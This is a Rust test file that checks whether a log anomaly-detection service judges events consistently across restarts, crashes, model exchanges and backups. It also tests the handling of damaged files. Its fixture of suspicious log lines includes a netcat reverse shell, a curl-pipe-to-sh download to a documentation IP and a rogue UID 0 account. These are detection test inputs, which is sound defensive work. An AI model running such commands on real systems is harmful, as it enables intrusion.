//! What was learned belongs together: a model judges the same after a restart, a crash, an exchange, elsewhere.

use std::{fs, path::Path, sync::Barrier, thread};

use anomaly::{Config, Prediction, Service};
use event::{Event, EventId, JournalId, Position, Severity, Timestamp, VerdictState};
use proptest::prelude::*;

const EVENTS_MIN: usize = 150;

#[expect(clippy::unwrap_used, reason = "a test that cannot begin has failed")]
fn open(dir: &Path) -> Service {
    Service::open(Config { events_min: EVENTS_MIN, ..Config::new(dir) }).unwrap()
}

fn event(nth: u64, source: &'static str, message: String) -> Event<'static> {
    let nanos = 1_700_000_000_000_000_000 + i128::from(nth) * 3_000_000_000;
    let mut event = Event::new(message, Timestamp::saturating_from_nanos(nanos));
    (event.source, event.severity, event.host) = (Some(source.into()), Severity::Info, Some("web-1".into()));
    event
}

/// Ordinary lines of a login server; `kind` makes others of them.
fn ordinary(kind: u64, from: u64, count: u64) -> Vec<Event<'static>> {
    let one = |n: u64| {
        let user = ["root", "deploy", "backup", "alice"][(n * 7 + kind) as usize % 4];
        match (n * 31 + kind) % 5 {
            0 => event(n, "cron", format!("({user}) CMD (run-parts /etc/cron.{kind})")),
            1 => event(
                n,
                "sshd",
                format!("Connection closed by 10.0.{kind}.{} port {}", n % 9, 30_000 + n % 999),
            ),
            2 => event(n, "sudo", format!("session {kind} opened for user {user} by uid={}", n % 3)),
            _ => event(
                n,
                "sshd",
                format!(
                    "Accepted publickey for {user} from 10.0.{kind}.{} port {} ssh2",
                    n % 9,
                    40_000 + n % 777
                ),
            ),
        }
    };
    (from..from + count).map(one).collect()
}

/// Lines that an analyst would look at, and some ordinary ones.
fn strange() -> Vec<Event<'static>> {
    let mut events: Vec<_> = [
        ("sshd", "Accepted password for root from 203.0.113.77 port 4444 ssh2"),
        ("sshd", "Failed password for invalid user admin from 203.0.113.9 port 50022 ssh2"),
        ("sshd", "error: kex_exchange_identification: banner line contains invalid characters"),
        ("sudo", "www-data : user NOT in sudoers ; TTY=pts/0 ; COMMAND=/usr/bin/nc -e /bin/sh 203.0.113.77"),
        ("kernel", "Out of memory: Killed process 4242 (mysqld)"),
        ("cron", "(root) CMD (curl http://203.0.113.77/x | sh)"),
        ("useradd", "new user: name=toor, UID=0, GID=0"),
    ]
    .map(|(source, message)| event(4_000, source, message.to_owned()))
    .into();
    events.extend(ordinary(0, 4_000, 8));
    events.extend(ordinary(3, 4_000, 5));
    events
}

type Told = (f32, bool, VerdictState, Vec<String>, Option<String>, Option<String>);

fn told(service: &Service) -> Vec<Told> {
    let text = |template: Option<std::sync::Arc<event::Template>>| template.map(|known| known.text.clone());
    let one = |event: &Event<'_>| {
        let Prediction { score, is_anomaly, state, reasons, template, nearest_template, .. } =
            service.predict(event);
        (score, is_anomaly, state, reasons, text(template), text(nearest_template))
    };
    strange().iter().map(one).collect()
}

/// A journal's records in order, as the pipeline gives them.
struct Journal {
    id: JournalId,
    events: Vec<Event<'static>>,
}

impl Journal {
    fn feed(&self, service: &Service, records: std::ops::Range<usize>) {
        for chunk in records.collect::<Vec<_>>().chunks(70) {
            let one = |record: &usize| {
                let position = Position { segment: 1, record: *record as u32 };
                (EventId { journal: self.id, position }, self.events[*record].clone())
            };
            let end = Position { segment: 1, record: chunk[chunk.len() - 1] as u32 + 1 };
            service.analyze(chunk.iter().map(one).collect(), end);
        }
    }
}

/// What happens to a service.
#[derive(Debug, Clone)]
enum Step {
    /// The stream goes on by so many events.
    Stream(u8),
    /// Its window is saved, as with a commit of the index.
    Commit,
    /// It is trained on so many events of a kind.
    Train(u64, u16),
}

/// What must not change what it says.
#[derive(Debug, Clone, Copy)]
enum Operation {
    /// It is killed and started: the journal gives again what came after the latest window.
    Kill,
    /// As before, and neither window nor index are there any more: the journal is read from its start.
    KillWithoutWindow,
    /// It is stopped and started.
    Stop,
    /// The model that serves is carried elsewhere and serves there.
    Carry,
    /// Another model is trained, and rolled back.
    RollBack,
    /// Another model comes to serve, and this one again.
    Activate,
    /// A copy of its folders is started.
    Backup,
}

const OPERATIONS: [Operation; 7] = [
    Operation::Kill,
    Operation::KillWithoutWindow,
    Operation::Stop,
    Operation::Carry,
    Operation::RollBack,
    Operation::Activate,
    Operation::Backup,
];

fn copy_dir(from: &Path, to: &Path) -> std::io::Result<()> {
    fs::create_dir_all(to)?;
    for entry in fs::read_dir(from)? {
        let entry = entry?;
        let target = to.join(entry.file_name());
        if entry.file_type()?.is_dir() {
            copy_dir(&entry.path(), &target)?;
        } else {
            fs::copy(entry.path(), target)?;
        }
    }
    Ok(())
}

/// A service, the journal it reads and the window saved last.
struct Run {
    dir: tempfile::TempDir,
    service: Option<Service>,
    journal: Journal,
    read: usize,
    window: Option<(usize, Vec<u8>)>,
}

#[expect(clippy::unwrap_used, reason = "helpers of tests fail by panicking")]
impl Run {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let service = Some(open(dir.path()));
        let journal = Journal { id: JournalId(77), events: ordinary(0, 0, 3_000) };
        Self { dir, service, journal, read: 0, window: None }
    }

    fn service(&self) -> &Service {
        self.service.as_ref().unwrap()
    }

    fn step(&mut self, step: &Step) {
        match step {
            Step::Stream(events) => {
                let end = self.read + usize::from(*events);
                self.journal.feed(self.service(), self.read..end);
                self.read = end;
            }
            Step::Commit => self.window = Some((self.read, self.service().snapshot())),
            Step::Train(kind, events) => {
                self.service().train(&ordinary(*kind, 0, u64::from(*events))).unwrap();
            }
        }
    }

    /// Starts on what is in a folder and reads the journal up to where it was read.
    fn start(&self, dir: &Path, window: Option<&(usize, Vec<u8>)>, from: usize) -> Service {
        let service = open(dir);
        if let Some((_, window)) = window {
            service.restore(window).unwrap();
        }
        self.journal.feed(&service, from..self.read);
        service
    }

    fn operate(&mut self, operation: Operation) {
        let committed = self.window.as_ref().map_or(0, |(read, _)| *read);
        match operation {
            Operation::Kill => {
                self.service = None;
                self.service = Some(self.start(self.dir.path(), self.window.as_ref(), committed));
            }
            Operation::KillWithoutWindow => {
                self.service = None;
                self.service = Some(self.start(self.dir.path(), None, 0));
                self.window = None;
            }
            Operation::Stop => {
                self.step(&Step::Commit);
                self.operate(Operation::Kill);
            }
            Operation::Carry => {
                let version = self.service().model().version;
                let carried = self.service().export(&version).unwrap();
                let dir = tempfile::tempdir().unwrap();
                let elsewhere = open(dir.path());
                let other = Journal { id: JournalId(5), events: ordinary(4, 0, 90) };
                other.feed(&elsewhere, 0..90);
                let imported = elsewhere.import(&carried).unwrap();
                elsewhere.activate(&imported.version).unwrap();
                (self.dir, self.service) = (dir, Some(elsewhere));
            }
            Operation::RollBack => {
                self.service().train(&ordinary(9, 0, 400)).unwrap();
                self.service().roll_back().unwrap();
            }
            Operation::Activate => {
                let version = self.service().model().version;
                self.service().train(&ordinary(8, 0, 300)).unwrap();
                self.service().activate(&version).unwrap();
            }
            Operation::Backup => {
                let copy = tempfile::tempdir().unwrap();
                copy_dir(self.dir.path(), copy.path()).unwrap();
                self.service = Some(self.start(copy.path(), self.window.as_ref(), committed));
                self.dir = copy;
            }
        }
    }
}

fn same(before: &[Told], after: &[Told]) {
    assert_eq!(before.len(), after.len());
    for ((before, after), event) in before.iter().zip(after).zip(strange()) {
        assert!((before.0 - after.0).abs() < 1e-6, "{}: {before:?} became {after:?}", event.message);
        assert_eq!(before, after, "{}", event.message);
    }
}

fn step() -> impl Strategy<Value = Step> {
    prop_oneof![
        3 => any::<u8>().prop_map(Step::Stream),
        1 => Just(Step::Commit),
        2 => (0u64..3, 1u16..500).prop_map(|(kind, events)| Step::Train(kind, events)),
    ]
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 24, ..ProptestConfig::default() })]

    #[test]
    fn it_judges_the_same_whatever_is_done_to_it(
        steps in prop::collection::vec(step(), 1..7),
        last in 0u8..200,
        operations in prop::collection::vec(prop::sample::select(OPERATIONS.to_vec()), 1..4),
    ) {
        let mut run = Run::new();
        run.step(&Step::Train(1, 200));
        steps.iter().for_each(|step| run.step(step));
        // Events that only the journal holds are part of it, too.
        run.step(&Step::Stream(last));
        let before = told(run.service());
        prop_assert!(before.iter().all(|told| told.2 == VerdictState::Scored));
        for operation in operations {
            run.operate(operation);
            same(&before, &told(run.service()));
        }
    }
}

#[test]
fn a_training_that_was_answered_is_there_after_a_kill() {
    for events in [1, 149, 150, 2_000] {
        let dir = tempfile::tempdir().unwrap();
        let service = open(dir.path());
        let trained = service.train(&ordinary(1, 0, events)).unwrap();
        let (before, model) = (told(&service), service.model());
        std::mem::forget(service);
        let again = open(dir.path());
        same(&before, &told(&again));
        assert_eq!((again.model().version, again.model().needed), (model.version, trained.needed));
        if events == 149 {
            let more = again.train(&ordinary(1, 149, 1)).unwrap();
            assert_eq!(more.state, VerdictState::Scored, "both count");
        }
    }
}

#[test]
fn a_model_without_its_history_warms_up() {
    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let service = open(here.path());
    let version = service.train(&ordinary(1, 0, 400)).unwrap().model;
    let bare = there.path().join(&version);
    fs::create_dir(&bare).unwrap();
    fs::copy(here.path().join(&version).join("model.bin"), bare.join("model.bin")).unwrap();
    let other = open(there.path());
    let prediction = other.predict(&strange()[0]);
    assert_eq!((prediction.state, prediction.is_anomaly), (VerdictState::WarmingUp, false));
    assert_eq!((prediction.needed, other.model().needed), (150, 150));
    assert_eq!((other.model().version, other.model().state), (version, VerdictState::WarmingUp));
    assert!(other.model().why.contains("history"), "{}", other.model().why);
    // It scores once it has seen enough itself.
    let journal = Journal { id: JournalId(3), events: ordinary(1, 0, 200) };
    journal.feed(&other, 0..200);
    assert_eq!(other.predict(&strange()[0]).state, VerdictState::Scored);
}

#[test]
fn a_damaged_history_is_told_and_set_aside() {
    let dir = tempfile::tempdir().unwrap();
    let version = open(dir.path()).train(&ordinary(1, 0, 400)).unwrap().model;
    let path = dir.path().join(&version).join("learned.bin");
    let mut bytes = fs::read(&path).unwrap();
    let half = bytes.len() / 2;
    bytes[half] ^= 1;
    fs::write(&path, &bytes).unwrap();
    let service = open(dir.path());
    assert_eq!(service.predict(&strange()[0]).state, VerdictState::WarmingUp);
    let problems = service.problems();
    assert!(problems.iter().any(|problem| problem.what == "history" && problem.text.contains("set aside")));
    assert_eq!(fs::read(path.with_file_name("learned.bin.refused")).unwrap(), bytes);
}

#[test]
fn another_model_than_the_chosen_one_serves_with_a_word() {
    let dir = tempfile::tempdir().unwrap();
    let service = open(dir.path());
    let older = service.train(&ordinary(1, 0, 300)).unwrap().model;
    let chosen = service.train(&ordinary(2, 0, 300)).unwrap().model;
    drop(service);
    fs::write(dir.path().join(&chosen).join("model.bin"), b"no model").unwrap();
    let service = open(dir.path());
    let model = service.model();
    assert_eq!(model.version, older);
    assert!(model.problem.contains(&chosen) && model.problem.contains(&older), "{}", model.problem);
    assert_eq!(service.problems().iter().filter(|problem| problem.what == "model").count(), 1);
    service.activate(&older).unwrap();
    assert_eq!((service.model().problem.as_str(), service.problems().len()), ("", 0));
}

#[test]
fn ids_of_feedback_are_not_given_out_again_behind_a_damaged_file() {
    let dir = tempfile::tempdir().unwrap();
    let mut given: Vec<u64> = Vec::new();
    for round in 0..3 {
        let service = open(dir.path());
        assert_eq!(service.problems().len(), usize::from(round > 0), "{:?}", service.problems());
        for event in &strange()[..3] {
            let id = service.give_feedback(event, anomaly::Label::Normal, "", event.timestamp).unwrap().id;
            assert!(!given.contains(&id), "{id} of {given:?}");
            given.push(id);
        }
        drop(service);
        let path = dir.path().join("feedback");
        let mut bytes = fs::read(&path).unwrap();
        bytes[20] ^= 1;
        fs::write(&path, bytes).unwrap();
    }
    assert!(dir.path().join("feedback.refused").exists() && dir.path().join("feedback.refused.1").exists());
    // What lies aside is told until it is gone.
    drop(open(dir.path()));
    assert!(open(dir.path()).problems().iter().any(|problem| problem.text.contains("feedback.refused.2")));
}

#[test]
fn a_damaged_history_of_models_is_told() {
    let dir = tempfile::tempdir().unwrap();
    let version = open(dir.path()).train(&ordinary(1, 0, 300)).unwrap().model;
    fs::write(dir.path().join("history"), b"LSHISTRY and so on").unwrap();
    let service = open(dir.path());
    assert_eq!(service.model().version, version);
    assert!(service.problems().iter().any(|problem| problem.what == "models"), "{:?}", service.problems());
    assert!(dir.path().join("history.refused").exists());
}

#[test]
fn exchanges_at_the_same_time_are_all_done() {
    let dir = tempfile::tempdir().unwrap();
    let service = open(dir.path());
    let versions: Vec<String> =
        (0..3).map(|kind| service.train(&ordinary(kind, 0, 200)).unwrap().model).collect();
    let carried = service.export(&versions[0]).unwrap();
    let begin = Barrier::new(6);
    let (service, begin, versions, carried) = (&service, &begin, &versions, &carried);
    thread::scope(|scope| {
        for worker in 0..3usize {
            scope.spawn(move || {
                begin.wait();
                for round in 0..12 {
                    let version = &versions[(worker + round) % 3];
                    assert!(service.activate(version).is_ok());
                    service.export(version).unwrap();
                    service
                        .give_feedback(&strange()[worker], anomaly::Label::Bad, "", Timestamp::MIN)
                        .unwrap();
                }
            });
        }
        scope.spawn(|| {
            begin.wait();
            (0..12).for_each(|_| drop(service.import(carried).unwrap()));
        });
        scope.spawn(|| {
            begin.wait();
            (0..4).for_each(|kind| drop(service.train(&ordinary(kind, 0, 160)).unwrap()));
        });
        scope.spawn(|| {
            begin.wait();
            let journal = Journal { id: JournalId(9), events: ordinary(0, 0, 1_000) };
            (0..1_000).step_by(50).for_each(|from| journal.feed(service, from..from + 50));
        });
    });
    let (serving, before) = (service.model().version, told(service));
    let window = service.snapshot();
    let again = open(dir.path());
    assert_eq!(again.model().version, serving, "what serves is what is on disk");
    again.restore(&window).unwrap();
    same(&before, &told(&again));
    assert!(service.problems().is_empty(), "{:?}", service.problems());
}
